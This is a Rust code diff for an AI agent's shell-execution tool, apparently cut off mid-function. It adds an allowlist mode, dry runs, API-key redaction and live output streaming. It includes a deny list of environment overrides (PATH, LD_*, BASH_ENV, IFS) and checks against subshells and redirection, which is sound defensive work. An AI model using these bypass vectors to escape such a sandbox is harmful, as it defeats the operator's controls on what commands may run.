@@ -1,4 +1,6 @@
 use crate::controllers::api_keys::ApiKeyId;
+use crate::gateway::events::EventBroadcaster;
+use crate::gateway::protocol::GatewayEvent;
 use crate::tools::registry::Tool;
 use crate::tools::types::{
     PropertySchema, ToolContext, ToolDefinition, ToolGroup, ToolInputSchema, ToolResult,
@@ -6,13 +8,93 @@ use crate::tools::types::{
 use async_trait::async_trait;
 use serde::{Deserialize, Deserializer};
 use serde_json::{json, Value};
-use std::collections::HashMap;
+use std::collections::{HashMap, VecDeque};
 use std::str::FromStr;
 use std::path::PathBuf;
 use std::process::Stdio;
+use std::sync::Arc;
 use std::time::Duration;
+use tokio::io::{AsyncBufReadExt, AsyncRead, BufReader};
 use tokio::process::Command;
-use tokio::time::timeout;
+use tokio::time::{timeout, Instant};
+
+/// Bytes of each stream (stdout/stderr) kept in memory while a command runs; older output is dropped
+const OUTPUT_TAIL_BYTES: usize = 64 * 1024;
+/// Lines longer than this are split (guards against output with no newlines, e.g. progress bars)
+const MAX_LINE_BYTES: usize = 8 * 1024;
+/// Least time between `tool.output_chunk` events for one stream; lines in between are batched
+const OUTPUT_CHUNK_INTERVAL: Duration = Duration::from_millis(250);
+/// A batch of output lines is sent early once it reaches this size
+const MAX_OUTPUT_CHUNK_BYTES: usize = 16 * 1024;
+/// Default bytes of output returned to the AI (keep small to avoid context bloat for smaller models)
+const MAX_OUTPUT: usize = 15000;
+/// Smallest `max_output_bytes` a call may ask for
+const MIN_OUTPUT: usize = 256;
+/// Shorter API key values aren't redacted; they'd mangle ordinary output
+const MIN_REDACT_LEN: usize = 6;
+
+/// Replaces the values of the context's API keys with `[REDACTED]`, so a command that
+/// echoes its environment doesn't leak them into logs, live output or the tool result.
+#[derive(Debug, Default)]
+struct SecretRedactor {
+    secrets: Vec<String>,
+}
+
+impl SecretRedactor {
+    fn new(secrets: Vec<String>) -> Self {
+        let mut secrets: Vec<String> = secrets
+            .into_iter()
+            .filter(|s| s.len() >= MIN_REDACT_LEN)
+            .collect();
+        // Longest first, so a key that contains another is replaced whole
+        secrets.sort_by_key(|s| std::cmp::Reverse(s.len()));
+        secrets.dedup();
+        Self { secrets }
+    }
+
+    fn from_context(context: &ToolContext) -> Self {
+        Self::new(context.api_key_values())
+    }
+
+    /// Bytes a line must keep past a hard split so a secret crossing it is seen whole
+    fn overlap(&self) -> usize {
+        self.secrets.first().map_or(0, |s| s.len() - 1)
+    }
+
+    /// Move a hard split point in `buf` back so it doesn't cut through a secret
+    /// or a UTF-8 character. Returns 0 if no such point exists before `at`.
+    fn split_point(&self, buf: &[u8], at: usize) -> usize {
+        let mut at = at.min(buf.len());
+        // Moving back past one secret can land inside another, so repeat until stable
+        loop {
+            let before = at;
+            for secret in &self.secrets {
+                let secret = secret.as_bytes();
+                let earliest = at.saturating_sub(secret.len() - 1);
+                if let Some(start) = (earliest..at).find(|&i| buf[i..].starts_with(secret)) {
+                    at = start;
+                }
+            }
+            if at == before {
+                break;
+            }
+        }
+        while at > 0 && at < buf.len() && (buf[at] & 0xC0) == 0x80 {
+            at -= 1;
+        }
+        at
+    }
+
+    fn redact(&self, text: &str) -> String {
+        let mut out = text.to_string();
+        for secret in &self.secrets {
+            if out.contains(secret.as_str()) {
+                out = out.replace(secret.as_str(), "[REDACTED]");
+            }
+        }
+        out
+    }
+}
 
 /// Deserialize a u64 from either a number or a string
 fn deserialize_u64_lenient<'de, D>(deserializer: D) -> Result<Option<u64>, D::Error>
@@ -33,16 +115,39 @@ pub struct ExecTool {
     definition: ToolDefinition,
     /// Maximum execution time in seconds
     max_timeout: u64,
-    /// Security mode: "full" (shell allowed), "restricted" (no shell), "sandbox" (future)
+    /// Security mode: "full" (shell allowed), "restricted" (no shell), "allowlist" (only
+    /// `allowed_commands` may run), "sandbox" (future)
     security_mode: String,
+    /// Command names permitted in "allowlist" mode (matched exactly against each command's program)
+    allowed_commands: Vec<String>,
+    /// Cap on the `max_output_bytes` parameter
+    max_output_bytes: usize,
+    /// Server-wide dry run: every call is checked and described, never spawned
+    dry_run: bool,
 }
 
 impl ExecTool {
     pub fn new() -> Self {
-        Self::with_config(300, "full".to_string())
+        Self::with_config(300, "full".to_string(), Vec::new())
+    }
+
+    /// "allowlist" mode when STARK_EXEC_ALLOWLIST is set, otherwise the default "full" mode
+    pub fn from_env() -> Self {
+        let tool = match crate::config::exec_allowlist() {
+            Some(allowed) => {
+                log::info!("[EXEC] Allowlist mode: {}", allowed.join(", "));
+                Self::with_config(300, "allowlist".to_string(), allowed)
+            }
+            None => Self::new(),
+        };
+        let dry_run = crate::config::exec_dry_run();
+        if dry_run {
+            log::info!("[EXEC] Dry-run mode: commands are checked and described but never executed");
+        }
+        tool.with_dry_run(dry_run)
     }
 
-    pub fn with_config(max_timeout: u64, security_mode: String) -> Self {
+    pub fn with_config(max_timeout: u64, security_mode: String, allowed_commands: Vec<String>) -> Self {
         let mut properties = HashMap::new();
         properties.insert(
             "command".to_string(),
@@ -87,6 +192,31 @@ impl ExecTool {
                 enum_values: None,
             },
         );
+        let max_output_bytes = crate::config::exec_max_output_bytes();
+        properties.insert(
+            "max_output_bytes".to_string(),
+            PropertySchema {
+                schema_type: "integer".to_string(),
+                description: format!(
+                    "Bytes of output to return; the end of the output is kept when it's longer \
+                    (default: {}, max: {}). Raise it for log-heavy commands.",
+                    MAX_OUTPUT, max_output_bytes
+                ),
+                default: Some(json!(MAX_OUTPUT)),
+                items: None,
+                enum_values: None,
+            },
+        );
+        properties.insert(
+            "dry_run".to_string(),
+            PropertySchema {
+                schema_type: "boolean".to_string(),
+                description: "Check the command and report what would run (working directory, env var names) without executing it.".to_string(),
+                default: Some(json!(false)),
+                items: None,
+                enum_values: None,
+            },
+        );
         properties.insert(
             "background".to_string(),
             PropertySchema {
@@ -112,9 +242,18 @@ impl ExecTool {
             },
             max_timeout,
             security_mode,
+            allowed_commands,
+            max_output_bytes,
+            dry_run: false,
         }
     }
 
+    /// Force every call into dry-run mode
+    pub fn with_dry_run(mut self, dry_run: bool) -> Self {
+        self.dry_run = dry_run;
+        self
+    }
+
     /// Check if a command looks like a server/long-running process
     fn is_server_command(command: &str) -> bool {
         let lower = command.to_lowercase();
@@ -189,9 +328,69 @@ impl ExecTool {
             }
         }
 
+        if self.security_mode == "allowlist" {
+            return self.check_allowlist(command);
+        }
+
+        None
+    }
+
+    /// In allowlist mode, every program in the command line (first word of each
+    /// pipeline/list segment) must be on the allowlist. Output redirection to files
+    /// and inline overrides of variables that change which program runs are rejected;
+    /// fd duplication such as `2>&1` is fine.
+    fn check_allowlist(&self, command: &str) -> Option<String> {
+        // Substitutions and subshells would run programs we can't see
+        if command.contains("$(") || command.contains('`') || command.contains('(') || command.contains(')') {
+            return Some("Command substitution and subshells are not allowed in allowlist mode".to_string());
+        }
+
+        let segments = match command_segments(command) {
+            Some(s) => s,
+            None => return Some("Unterminated quote in command".to_string()),
+        };
+        if has_file_redirect(command) {
+            return Some("Output redirection to files is not allowed in allowlist mode".to_string());
+        }
+        for segment in &segments {
+            let assigned = segment
+                .split_whitespace()
+                .take_while(|word| is_env_assignment(word))
+                .filter_map(|word| word.split_once('=').map(|(name, _)| name));
+            if let Some(reason) = Self::check_allowlist_env(assigned) {
+                return Some(reason);
+            }
+        }
+
+        let programs = segment_programs(&segments);
+        if programs.is_empty() {
+            return Some("No command to run".to_string());
+        }
+        for program in programs {
+            if !self.allowed_commands.iter().any(|allowed| *allowed == program) {
+                return Some(format!(
+                    "'{}' is not in the exec allowlist (allowed: {})",
+                    program,
+                    if self.allowed_commands.is_empty() {
+                        "none".to_string()
+                    } else {
+                        self.allowed_commands.join(", ")
+                    }
+                ));
+            }
+        }
         None
     }
 
+    /// In allowlist mode, reject environment overrides that would change which
+    /// program actually runs (a workspace `PATH`, preloaded libraries, shell startup files)
+    fn check_allowlist_env<'a>(names: impl IntoIterator<Item = &'a str>) -> Option<String> {
+        names
+            .into_iter()
+            .find(|name| is_blocked_allowlist_env(name))
+            .map(|name| format!("Overriding {} is not allowed in allowlist mode", name))
+    }
+
     /// Check if a command is interactive (requires user input)
     fn is_interactive_command(command: &str) -> Option<String> {
         // Helper to check if a pattern appears as an actual command (not inside quotes)
@@ -261,25 +460,140 @@ impl ExecTool {
         None
     }
 
-    /// Execute a command in background mode using ProcessManager
-    async fn execute_background(&self, params: &ExecParams, context: &ToolContext) -> ToolResult {
-        // Determine working directory
+    /// Resolve `workdir` against the workspace (absolute paths are used as-is)
+    fn resolve_working_dir(params: &ExecParams, context: &ToolContext) -> PathBuf {
         let workspace = context
             .workspace_dir
             .as_ref()
             .map(PathBuf::from)
             .unwrap_or_else(|| std::env::current_dir().unwrap_or_else(|_| PathBuf::from(".")));
 
-        let working_dir = if let Some(ref wd) = params.workdir {
-            let wd_path = PathBuf::from(wd);
-            if wd_path.is_absolute() {
-                wd_path
-            } else {
-                workspace.join(wd_path)
+        match params.workdir {
+            Some(ref wd) => {
+                let wd_path = PathBuf::from(wd);
+                if wd_path.is_absolute() {
+                    wd_path
+                } else {
+                    workspace.join(wd_path)
+                }
+            }
+            None => workspace,
+        }
+    }
+
+    /// Environment for a foreground command: API keys (plus git auth config for the
+    /// GitHub token), custom runtime keys, then the call's own `env`. Also returns the
+    /// names of the key and `env` variables, for diagnostics.
+    fn command_env(params: &ExecParams, context: &ToolContext) -> (Vec<(String, String)>, Vec<String>) {
+        let mut env: Vec<(String, String)> = Vec::new();
+        let mut available_env_vars: Vec<String> = Vec::new();
+        for key_id in ApiKeyId::all() {
+            if let Some(value) = context.get_api_key_by_id(key_id) {
+                // Set all configured env vars for this key
+                if let Some(env_vars) = key_id.env_vars() {
+                    for env_var in env_vars {
+                        env.push((env_var.to_string(), value.clone()));
+                        available_env_vars.push(env_var.to_string());
+                    }
+                }
+
+                // Special git configuration for GitHub token
+                if key_id.requires_git_config() {
+                    // Disable git terminal prompts (would hang in non-interactive mode)
+                    env.push(("GIT_TERMINAL_PROMPT".to_string(), "0".to_string()));
+                    // Configure git to rewrite github HTTPS URLs to include the token
+                    // This allows git clone/push to authenticate automatically
+                    env.push(("GIT_CONFIG_COUNT".to_string(), "2".to_string()));
+                    env.push(("GIT_CONFIG_KEY_0".to_string(), format!("url.https://x-access-token:{}@github.com/.insteadOf", value)));
+                    env.push(("GIT_CONFIG_VALUE_0".to_string(), "https://github.com/".to_string()));
+                    env.push(("GIT_CONFIG_KEY_1".to_string(), format!("url.https://x-access-token:{}@github.com/.insteadOf", value)));
+                    env.push(("GIT_CONFIG_VALUE_1".to_string(), "git@github.com:".to_string()));
+                    // Set git author/committer info for commits (from bot config)
+                    let bot_name = context.get_bot_name();
+                    let bot_email = context.get_bot_email();
+                    env.push(("GIT_AUTHOR_NAME".to_string(), bot_name.clone()));
+                    env.push(("GIT_AUTHOR_EMAIL".to_string(), bot_email.clone()));
+                    env.push(("GIT_COMMITTER_NAME".to_string(), bot_name));
+                    env.push(("GIT_COMMITTER_EMAIL".to_string(), bot_email));
+                }
             }
+        }
+
+        // Also inject custom runtime API keys as env vars
+        // Skip keys that match a built-in ApiKeyId — those are already handled
+        // by the loop above (possibly under different env var names).
+        for name in context.list_api_key_names() {
+            if available_env_vars.contains(&name) {
+                continue;
+            }
+            if ApiKeyId::from_str(&name).is_ok() {
+                continue; // built-in key, already injected via env_vars() mapping
+            }
+            if let Some(value) = context.get_api_key(&name) {
+                if !value.is_empty() {
+                    env.push((name.clone(), value));
+                    available_env_vars.push(name);
+                }
+            }
+        }
+
+        // Set custom environment variables from params
+        if let Some(ref env_vars) = params.env {
+            for (key, value) in env_vars {
+                env.push((key.clone(), value.clone()));
+                available_env_vars.push(key.clone());
+            }
+        }
+
+        (env, available_env_vars)
+    }
+
+    /// Describe what a call would run without spawning anything. The safety checks
+    /// have already passed by the time this is called.
+    fn dry_run_result(&self, params: &ExecParams, context: &ToolContext) -> ToolResult {
+        let redactor = SecretRedactor::from_context(context);
+        let command = redactor.redact(&params.command);
+        let working_dir = Self::resolve_working_dir(params, context);
+        let workdir_exists = working_dir.exists();
+        let (_, mut env_names) = Self::command_env(params, context);
+        env_names.sort();
+        env_names.dedup();
+        let background = params.background.unwrap_or(false);
+        let timeout_secs = params.timeout.unwrap_or(60).min(self.max_timeout);
+
+        log::info!("[EXEC] Dry run: {} (workdir: {:?})", command, working_dir);
+
+        let mode = if background {
+            "background".to_string()
         } else {
-            workspace
+            format!("foreground, timeout {}s", timeout_secs)
         };
+        ToolResult::success(format!(
+            "Dry run: command was checked but NOT executed.\n\
+            Command: {}\n\
+            Working directory: {}{}\n\
+            Mode: {}\n\
+            Environment variables set: {}",
+            command,
+            working_dir.display(),
+            if workdir_exists { "" } else { " (would be created)" },
+            mode,
+            if env_names.is_empty() { "none".to_string() } else { env_names.join(", ") }
+        ))
+        .with_metadata(json!({
+            "dry_run": true,
+            "command": command,
+            "working_dir": working_dir.to_string_lossy(),
+            "working_dir_exists": workdir_exists,
+            "background": background,
+            "timeout_secs": timeout_secs,
+            "env_vars": env_names,
+        }))
+    }
+
+    /// Execute a command in background mode using ProcessManager
+    async fn execute_background(&self, params: &ExecParams, context: &ToolContext) -> ToolResult {
+        let working_dir = Self::resolve_working_dir(params, context);
 
         // Ensure working directory exists
         if !working_dir.exists() {
@@ -300,6 +614,7 @@ impl ExecTool {
 
                 let shell = if cfg!(target_os = "windows") { "cmd" } else { "sh" };
                 let shell_arg = if cfg!(target_os = "windows") { "/C" } else { "-c" };
+                let logged_command = SecretRedactor::from_context(context).redact(&params.command);
 
                 match Command::new(shell)
                     .arg(shell_arg)
@@ -317,11 +632,11 @@ impl ExecTool {
                             Working directory: {}\n\n\
                             Note: ProcessManager not available. Process output is not captured.",
                             pid,
-                            params.command,
+                            logged_command,
                             working_dir.display()
                         )).with_metadata(json!({
                             "pid": pid,
-                            "command": params.command,
+                            "command": logged_command,
                             "background": true,
                             "working_dir": working_dir.to_string_lossy()
                         }));
@@ -370,16 +685,17 @@ impl ExecTool {
             }
         }
 
-        // Debug: log all injected environment variables (background path)
+        // Debug: log all injected environment variables (background path), names and lengths only
+        let redactor = SecretRedactor::from_context(context);
+        let logged_command = redactor.redact(&params.command);
         if !env_vars.is_empty() {
             let var_names: Vec<&String> = env_vars.keys().collect();
-            log::debug!("[EXEC/BG] Injected env vars for command '{}': {:?}", params.command, var_names);
+            log::debug!("[EXEC/BG] Injected env vars for command '{}': {:?}", logged_command, var_names);
             for (name, val) in &env_vars {
-                let preview = if val.len() > 8 { &val[..8] } else { val.as_str() };
-                log::debug!("[EXEC/BG]   {}={}... (len={})", name, preview, val.len());
+                log::debug!("[EXEC/BG]   {}=[REDACTED] (len={})", name, val.len());
             }
         } else {
-            log::debug!("[EXEC/BG] No env vars injected for command '{}'", params.command);
+            log::debug!("[EXEC/BG] No env vars injected for command '{}'", logged_command);
         }
 
         // Spawn via ProcessManager
@@ -406,13 +722,13 @@ impl ExecTool {
                     Use `process_status` tool with id=\"{}\" to check status or get output.",
                     process_id,
                     pid,
-                    params.command,
+                    logged_command,
                     working_dir.display(),
                     process_id
                 )).with_metadata(json!({
                     "process_id": process_id,
                     "pid": pid,
-                    "command": params.command,
+                    "command": logged_command,
                     "background": true,
                     "working_dir": working_dir.to_string_lossy()
                 }))
@@ -437,6 +753,10 @@ struct ExecParams {
     env: Option<HashMap<String, String>>,
     #[serde(default)]
     background: Option<bool>,
+    #[serde(default, deserialize_with = "deserialize_u64_lenient")]
+    max_output_bytes: Option<u64>,
+    #[serde(default)]
+    dry_run: Option<bool>,
 }
 
 #[async_trait]
@@ -455,6 +775,16 @@ impl Tool for ExecTool {
         if let Some(reason) = self.is_dangerous_command(&params.command) {
             return ToolResult::error(format!("Command blocked: {}", reason));
         }
+        if self.security_mode == "allowlist" {
+            let names = params.env.iter().flat_map(|env| env.keys().map(String::as_str));
+            if let Some(reason) = Self::check_allowlist_env(names) {
+                return ToolResult::error(format!("Command blocked: {}", reason));
+            }
+        }
+
+        if self.dry_run || params.dry_run.unwrap_or(false) {
+            return self.dry_run_result(&params, context);
+        }
 
         let background = params.background.unwrap_or(false);
 
@@ -477,24 +807,12 @@ impl Tool for ExecTool {
         }
 
         let timeout_secs = params.timeout.unwrap_or(60).min(self.max_timeout);
+        let output_limit = params
+            .max_output_bytes
+            .map(|n| (n.min(usize::MAX as u64) as usize).clamp(MIN_OUTPUT, self.max_output_bytes.max(MIN_OUTPUT)))
+            .unwrap_or(MAX_OUTPUT);
 
-        // Determine working directory
-        let workspace = context
-            .workspace_dir
-            .as_ref()
-            .map(PathBuf::from)
-            .unwrap_or_else(|| std::env::current_dir().unwrap_or_else(|_| PathBuf::from(".")));
-
-        let working_dir = if let Some(ref wd) = params.workdir {
-            let wd_path = PathBuf::from(wd);
-            if wd_path.is_absolute() {
-                wd_path
-            } else {
-                workspace.join(wd_path)
-            }
-        } else {
-            workspace.clone()
-        };
+        let working_dir = Self::resolve_working_dir(&params, context);
 
         // Ensure working directory exists
         if !working_dir.exists() {
@@ -521,89 +839,75 @@ impl Tool for ExecTool {
             .arg(&params.command)
             .current_dir(&working_dir)
             .stdout(Stdio::piped())
-            .stderr(Stdio::piped());
+            .stderr(Stdio::piped())
+            .kill_on_drop(true);
 
-        // Set environment variables from context (API keys)
-        // Track which keys are available for diagnostic output
-        let mut available_env_vars: Vec<String> = Vec::new();
-        for key_id in ApiKeyId::all() {
-            if let Some(value) = context.get_api_key_by_id(key_id) {
-                // Set all configured env vars for this key
-                if let Some(env_vars) = key_id.env_vars() {
-                    for env_var in env_vars {
-                        cmd.env(env_var, &value);
-                        available_env_vars.push(env_var.to_string());
-                    }
-                }
+        // Set environment variables from context (API keys), tracking which are available for diagnostic output
+        let (command_env, available_env_vars) = Self::command_env(&params, context);
+        cmd.envs(command_env);
 
-                // Special git configuration for GitHub token
-                if key_id.requires_git_config() {
-                    // Disable git terminal prompts (would hang in non-interactive mode)
-                    cmd.env("GIT_TERMINAL_PROMPT", "0");
-                    // Configure git to rewrite github HTTPS URLs to include the token
-                    // This allows git clone/push to authenticate automatically
-                    cmd.env("GIT_CONFIG_COUNT", "2");
-                    cmd.env("GIT_CONFIG_KEY_0", format!("url.https://x-access-token:{}@github.com/.insteadOf", value));
-                    cmd.env("GIT_CONFIG_VALUE_0", "https://github.com/");
-                    cmd.env("GIT_CONFIG_KEY_1", format!("url.https://x-access-token:{}@github.com/.insteadOf", value));
-                    cmd.env("GIT_CONFIG_VALUE_1", "git@github.com:");
-                    // Set git author/committer info for commits (from bot config)
-                    let bot_name = context.get_bot_name();
-                    let bot_email = context.get_bot_email();
-                    cmd.env("GIT_AUTHOR_NAME", &bot_name);
-                    cmd.env("GIT_AUTHOR_EMAIL", &bot_email);
-                    cmd.env("GIT_COMMITTER_NAME", &bot_name);
-                    cmd.env("GIT_COMMITTER_EMAIL", &bot_email);
-                }
-            }
-        }
-
-        // Also inject custom runtime API keys as env vars
-        // Skip keys that match a built-in ApiKeyId — those are already handled
-        // by the loop above (possibly under different env var names).
-        for name in context.list_api_key_names() {
-            if available_env_vars.contains(&name) {
-                continue;
-            }
-            if ApiKeyId::from_str(&name).is_ok() {
-                continue; // built-in key, already injected via env_vars() mapping
-            }
-            if let Some(value) = context.get_api_key(&name) {
-                if !value.is_empty() {
-                    cmd.env(&name, &value);
-                    available_env_vars.push(name);
-                }
-            }
-        }
-
-        // Set custom environment variables from params
-        if let Some(ref env_vars) = params.env {
-            for (key, value) in env_vars {
-                cmd.env(key, value);
-                available_env_vars.push(key.clone());
-            }
-        }
-
-        // Debug: log all injected environment variables
+        // Debug: log all injected environment variables, names and lengths only
+        let redactor = Arc::new(SecretRedactor::from_context(context));
+        let logged_command = redactor.redact(&params.command);
         if !available_env_vars.is_empty() {
-            log::debug!("[EXEC] Injected env vars for command '{}': {:?}", params.command, available_env_vars);
+            log::debug!("[EXEC] Injected env vars for command '{}': {:?}", logged_command, available_env_vars);
             for var_name in &available_env_vars {
-                // Log masked values: show first 8 chars + length for debugging
                 if let Some(val) = context.get_api_key(var_name) {
-                    let preview = if val.len() > 8 { &val[..8] } else { &val };
-                    log::debug!("[EXEC]   {}={}... (len={})", var_name, preview, val.len());
+                    log::debug!("[EXEC]   {}=[REDACTED] (len={})", var_name, val.len());
                 }
             }
         } else {
-            log::debug!("[EXEC] No env vars injected for command '{}'", params.command);
+            log::debug!("[EXEC] No env vars injected for command '{}'", logged_command);
         }
 
         // Execute with timeout
         let start = std::time::Instant::now();
+        let quota_command = context.begin_channel_command();
         log::info!("Executing command: {} (timeout: {}s, workdir: {:?})",
-            params.command, timeout_secs, working_dir);
+            logged_command, timeout_secs, working_dir);
+
+        let mut child = match cmd.spawn() {
+            Ok(child) => child,
+            Err(e) => return ToolResult::error(format!("Failed to execute command: {}", e)),
+        };
 
-        let output = match timeout(Duration::from_secs(timeout_secs), cmd.output()).await {
+        // Stream output as it arrives (live `tool.output_chunk` events), keeping only the tail in memory.
+        // The child is killed on drop, so a timeout doesn't leave it running.
+        let emitter = context.broadcaster.clone().zip(context.channel_id);
+        let stdout_pipe = child.stdout.take();
+        let stderr_pipe = child.stderr.take();
+        let tail_bytes = OUTPUT_TAIL_BYTES.max(output_limit);
+        let run = async {
+            let (stdout, stderr) = tokio::join!(
+                stream_output(stdout_pipe, "stdout", tail_bytes, emitter.clone(), redactor.clone()),
+                stream_output(stderr_pipe, "stderr", tail_bytes, emitter.clone(), redactor.clone()),
+            );
+            child.wait().await.map(|status| (status, stdout, stderr))
+        };
+        // Stopping the execution (e.g. /api/chat/stop) cancels the token and kills the command
+        let cancelled = async {
+            match &context.cancellation_token {
+                Some(token) => token.cancelled().await,
+                None => std::future::pending().await,
+            }
+        };
+        let outcome = tokio::select! {
+            result = timeout(Duration::from_secs(timeout_secs), run) => Some(result),
+            _ = cancelled => None,
+        };
+        // Files the command created or changed count toward the channel's disk quota
+        context.finish_channel_command(quota_command, &working_dir).await;
+        let Some(outcome) = outcome else {
+            if let Err(e) = child.kill().await {
+                log::warn!("[EXEC] Failed to kill cancelled command: {}", e);
+            }
+            log::info!("[EXEC] Command cancelled after {}ms: {}", start.elapsed().as_millis(), logged_command);
+            return ToolResult::error(format!(
+                "Command cancelled: the execution was stopped after {:.1}s, before the command finished.",
+                start.elapsed().as_secs_f64()
+            ));
+        };
+        let (status, stdout, stderr) = match outcome {
             Ok(Ok(output)) => output,
             Ok(Err(e)) => return ToolResult::error(format!("Failed to execute command: {}", e)),
             Err(_) => {
@@ -615,12 +919,14 @@ impl Tool for ExecTool {
         };
         let duration_ms = start.elapsed().as_millis() as i64;
 
-        let stdout = String::from_utf8_lossy(&output.stdout).to_string();
-        let stderr = String::from_utf8_lossy(&output.stderr).to_string();
-        let exit_code = output.status.code().unwrap_or(-1);
+        let original_bytes = stdout.total_bytes() + stderr.total_bytes();
+        let mut truncated = stdout.dropped_bytes > 0 || stderr.dropped_bytes > 0;
+        let stdout = stdout.into_string();
+        let stderr = stderr.into_string();
+        let exit_code = status.code().unwrap_or(-1);
 
         // Build response
-        let success = output.status.success();
+        let success = status.success();
         let mut result_text = String::new();
 
         if !stdout.is_empty() {
@@ -677,14 +983,22 @@ impl Tool for ExecTool {
             };
         }
 
-        // Truncate if too long (keep small to avoid context bloat for smaller models)
-        const MAX_OUTPUT: usize = 15000;
-        if result_text.len() > MAX_OUTPUT {
+        // Output lines are redacted as they stream; this also covers the command echoed in diagnostics
+        result_text = redactor.redact(&result_text);
+
+        // Truncate if too long, keeping the end (where build errors and summaries usually are)
+        if result_text.len() > output_limit {
+            let mut start = result_text.len() - output_limit;
+            while !result_text.is_char_boundary(start) {
+                start += 1;
+            }
             result_text = format!(
-                "{}\n\n[Output truncated at {} characters]",
-                &result_text[..MAX_OUTPUT],
-                MAX_OUTPUT
+                "[Output truncated: showing the last {} of {} bytes]\n\n{}",
+                output_limit,
+                original_bytes,
+                &result_text[start..]
             );
+            truncated = true;
         }
 
         log::info!("Command completed: exit_code={}, duration={}ms, output_len={}",
@@ -699,13 +1013,16 @@ impl Tool for ExecTool {
             }
         }
 
-        // Best-effort disk quota warning: if usage is >90%, append warning so AI sees it
+        // Best-effort disk quota warning: if usage is >90% (or the channel is at its quota),
+        // append warning so AI sees it. Commands aren't refused — they're how files get cleaned up.
         if let Some(ref dq) = context.disk_quota {
             if dq.is_enabled() && dq.usage_percentage() > 90 {
                 result_text.push_str(&format!(
                     "\n\n⚠️ DISK QUOTA WARNING: {} — consider cleaning up unused files.",
                     dq.status_line()
                 ));
+            } else if let Err(e) = context.check_disk_quota(0) {
+                result_text.push_str(&format!("\n\n⚠️ DISK QUOTA WARNING: {}", e));
             }
         }
 
@@ -716,14 +1033,298 @@ impl Tool for ExecTool {
         };
 
         result.with_metadata(json!({
-            "command": params.command,
+            "command": logged_command,
             "exit_code": exit_code,
             "duration_ms": duration_ms,
+            "truncated": truncated,
+            "original_bytes": original_bytes,
             "working_dir": working_dir.to_string_lossy()
         }))
     }
 }
 
+/// Segments of a shell command line, split on unquoted `|`, `;`, `&` and
+/// newlines. A backslash outside single quotes escapes the next character, as in
+/// sh. `None` if a quote is left open.
+fn command_segments(command: &str) -> Option<Vec<String>> {
+    let mut segments = vec![String::new()];
+    let mut quote: Option<char> = None;
+    let mut escaped = false;
+    let mut prev = ' ';
+    let mut chars = command.chars().peekable();
+    while let Some(c) = chars.next() {
+        if escaped {
+            escaped = false;
+            if let Some(segment) = segments.last_mut() {
+                segment.push(c);
+            }
+            // An escaped `>` or `<` is literal, so it can't make a following `&` a redirection
+            prev = ' ';
+            continue;
+        }
+        // `2>&1`, `<&0` and `&>file` are redirections, not command separators
+        let is_redirect = c == '&' && (matches!(prev, '>' | '<') || chars.peek() == Some(&'>'));
+        match (quote, c) {
+            (Some('\''), '\'') => quote = None,
+            (Some('\''), _) => {}
+            (_, '\\') => escaped = true,
+            (Some(q), c) if c == q => quote = None,
+            (Some(_), _) => {}
+            (None, '\'' | '"') => quote = Some(c),
+            (None, '|' | ';' | '&' | '\n') if !is_redirect => {
+                segments.push(String::new());
+                prev = c;
+                continue;
+            }
+            _ => {}
+        }
+        if let Some(segment) = segments.last_mut() {
+            segment.push(c);
+        }
+        prev = c;
+    }
+    if quote.is_some() {
+        return None;
+    }
+    Some(segments)
+}
+
+/// The program name of each segment: leading `VAR=value` assignments are
+/// skipped and surrounding quotes removed
+fn segment_programs(segments: &[String]) -> Vec<String> {
+    segments
+        .iter()
+        .filter_map(|segment| {
+            segment
+                .split_whitespace()
+                .find(|word| !is_env_assignment(word))
+                .map(|word| word.trim_matches(|c| c == '"' || c == '\'').to_string())
+        })
+        .collect()
+}
+
+/// Whether an unquoted, unescaped `>` redirects output to a file (`>`, `>>`, `>|`, `&>`).
+/// Duplicating a descriptor (`2>&1`, `>&2`) doesn't count.
+fn has_file_redirect(command: &str) -> bool {
+    let mut quote: Option<char> = None;
+    let mut chars = command.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (quote, c) {
+            (Some('\''), '\'') => quote = None,
+            (Some('\''), _) => {}
+            (_, '\\') => {
+                chars.next();
+            }
+            (Some(q), c) if c == q => quote = None,
+            (Some(_), _) => {}
+            (None, '\'' | '"') => quote = Some(c),
+            (None, '>') => {
+                if chars.peek() == Some(&'>') {
+                    chars.next();
+                }
+                if chars.peek() == Some(&'&') {
+                    chars.next();
+                    if chars.peek().is_some_and(|n| n.is_ascii_digit() || *n == '-') {
+                        continue;
+                    }
+                }
+                return true;
+            }
+            _ => {}
+        }
+    }
+    false
+}
+
+/// Variables that can't be overridden in allowlist mode
+fn is_blocked_allowlist_env(name: &str) -> bool {
+    let name = name.to_ascii_uppercase();
+    matches!(name.as_str(), "PATH" | "BASH_ENV" | "ENV" | "IFS") || name.starts_with("LD_")
+}
+
+/// `NAME=value` prefix on a simple command
+fn is_env_assignment(word: &str) -> bool {
+    match word.split_once('=') {
+        Some((name, _)) => {
+            !name.is_empty()
+                && !name.starts_with(|c: char| c.is_ascii_digit())
+                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        }
+        None => false,
+    }
+}
+
+/// The most recent output of one stream, capped at a byte budget
+struct OutputTail {
+    lines: VecDeque<String>,
+    bytes: usize,
+    max_bytes: usize,
+    dropped_bytes: usize,
+}
+
+impl OutputTail {
+    fn new(max_bytes: usize) -> Self {
+        Self {
+            lines: VecDeque::new(),
+            bytes: 0,
+            max_bytes,
+            dropped_bytes: 0,
+        }
+    }
+
+    fn push(&mut self, line: String) {
+        self.bytes += line.len();
+        self.lines.push_back(line);
+        while self.bytes > self.max_bytes && self.lines.len() > 1 {
+            if let Some(old) = self.lines.pop_front() {
+                self.bytes -= old.len();
+                self.dropped_bytes += old.len();
+            }
+        }
+    }
+
+    /// Everything pushed, including bytes that were dropped
+    fn total_bytes(&self) -> usize {
+        self.bytes + self.dropped_bytes
+    }
+
+    fn into_string(self) -> String {
+        let mut out = String::with_capacity(self.bytes + 64);
+        if self.dropped_bytes > 0 {
+            out.push_str(&format!("[... {} earlier bytes omitted ...]\n", self.dropped_bytes));
+        }
+        for line in self.lines {
+            out.push_str(&line);
+        }
+        out
+    }
+}
+
+/// Batches a stream's output lines into `tool.output_chunk` events, so a chatty
+/// command sends at most one event per `OUTPUT_CHUNK_INTERVAL` (or per full batch)
+struct OutputChunks {
+    emitter: Option<(Arc<EventBroadcaster>, i64)>,
+    stream: &'static str,
+    pending: String,
+    last_sent: Option<Instant>,
+}
+
+impl OutputChunks {
+    fn new(emitter: Option<(Arc<EventBroadcaster>, i64)>, stream: &'static str) -> Self {
+        Self { emitter, stream, pending: String::new(), last_sent: None }
+    }
+
+    fn push(&mut self, text: &str) {
+        if self.emitter.is_none() {
+            return;
+        }
+        self.pending.push_str(text);
